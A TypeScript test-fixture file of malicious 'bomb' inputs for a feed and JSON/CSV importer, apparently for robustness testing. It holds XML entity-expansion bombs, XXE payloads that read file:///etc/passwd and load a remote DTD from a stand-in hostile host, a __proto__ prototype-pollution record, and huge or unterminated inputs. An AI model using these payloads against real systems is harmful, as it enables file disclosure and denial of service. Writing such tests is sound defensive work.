import { type Bomb, feed, file, item, LAUGHS, record, SENTENCE, times, xml } from './input-makers.ts';

/** Feeds and other XML. */
export const XML: readonly Bomb[] = [
  xml('entities of entities', () => feed(item('&m;'), LAUGHS)),
  xml('one entity of 100,000 letters ×10,000', () =>
    feed(item(times(10_000, '&a;')), `<!DOCTYPE rss [<!ENTITY a "${times(100_000, 'ص')}">]>`),
  ),
  xml('a file of the machine', () =>
    feed(item('قبل &x; بعد'), '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ),
  xml('a parameter entity from outside', () =>
    feed(item('ص'), '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://hostile.test/x.dtd"> %x;]>'),
  ),
  xml('entities declared ×100,000', () =>
    feed(item('ص'), `<!DOCTYPE rss [${times(100_000, (at) => `<!ENTITY e${at} "ص">`)}]>`),
  ),
  xml('elements within each other ×200,000', () => feed(`${times(200_000, '<a>')}`)),
  xml('attributes ×100,000', () => feed(`<item ${times(100_000, (at) => `a${at}="1" `)}/>`)),
  xml('namespaces ×50,000', () => feed(times(50_000, (at) => `<a xmlns:n${at}="x"/>`))),
  xml('empty items ×100,000', () => feed(times(100_000, '<item></item>'))),
  xml('categories ×100,000', () =>
    feed(
      item(
        SENTENCE,
        times(100_000, (at) => `<category>وسم${at}</category>`),
      ),
    ),
  ),
  xml('a section of CDATA that does not end', () => feed(`<item><![CDATA[${times(3_000_000, ']]')}`)),
  xml('text of 30 MB', () => feed(item(times(3_000_000, 'ص فحة ')))),
  xml('shortcodes ×50,000', () =>
    feed(item(`<![CDATA[${times(50_000, '[caption id="1"]')}]]>`)).replace(
      '<rss ',
      '<rss xmlns:wp="http://wordpress.org/export/1.2/" ',
    ),
  ),
];

/** JSON, a record a line or whole. */
export const JSON_BOMBS: readonly Bomb[] = [
  record('lists within each other ×500,000', () => `,"more":${times(500_000, '[')}${times(500_000, ']')}`),
  record(
    'objects within each other ×200,000',
    () => `,"a":${times(200_000, '{"a":')}1${times(200_000, '}')}`,
  ),
  record('keys ×300,000', () => times(300_000, (at) => `,"k${at}":1`)),
  record('tags ×200,000', () => `,"tags":[${times(200_000, (at) => `"وسم${at}",`)}""]`),
  record('a prototype', () => ',"__proto__":{"title":"x"},"constructor":{"prototype":{"title":"x"}}'),
  record('an address of a million letters', () => `,"url":"https://a.example/${times(1_000_000, 'x')}"`),
  record('a title of a million letters', () => `,"title":"${times(200_000, 'عنوان')}"`),
  file('json: a list of a million nothings', 'bomb.json', () => `[${times(1_000_000, '{},')}{}]`),
  file('json: cut in the middle of 10 MB', 'bomb.json', () => `[{"text":"${times(10_000_000, 'x')}`),
  file('json: lines of nothing ×300,000', 'bomb.jsonl', () => times(300_000, '{}\n')),
  file('csv: columns ×300,000', 'bomb.csv', () => `title,text,${times(300_000, (at) => `c${at},`)}\nص,ص\n`),
  file(
    'csv: a quote that does not end',
    'bomb.csv',
    () => `title,text\n"ص,${times(1_000_000, 'كلمة "" , \n')}`,
  ),
  file('csv: quotes ×5,000,000', 'bomb.csv', () => `title,text\n${times(5_000_000, '"')}\n`),
];
